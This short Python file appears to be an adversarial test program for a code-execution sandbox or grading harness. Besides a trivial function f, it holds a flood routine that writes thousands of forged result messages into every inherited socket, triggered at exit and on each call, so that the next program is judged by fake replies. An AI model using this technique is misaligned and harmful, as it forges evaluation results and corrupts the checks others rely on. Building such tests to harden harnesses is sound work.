"""Fills the channel with replies that the next program would be judged by.

tests: assert f(1) == 2
expect: killed or failed or passed
"""
import os
import stat


def f(x):
    return x + 1


def flood():
    reply = b'["value",666,[]]'
    for descriptor in range(3, 128):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                other = os.dup(descriptor)
                os.set_blocking(other, False)
                for _ in range(10000):
                    os.write(other, len(reply).to_bytes(4, "big") + reply)
        except OSError:
            pass


import atexit

atexit.register(flood)
original = f


def f(x):
    import threading

    threading.Timer(0.0, flood).start()
    return x + 1
